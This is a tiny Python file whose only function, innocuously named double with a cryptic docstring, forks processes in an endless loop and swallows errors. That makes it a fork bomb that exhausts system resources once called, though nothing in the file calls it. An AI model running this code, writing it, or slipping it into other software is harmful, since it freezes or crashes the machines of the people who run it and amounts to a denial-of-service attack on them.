"""Becomes more and more."""

import os


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
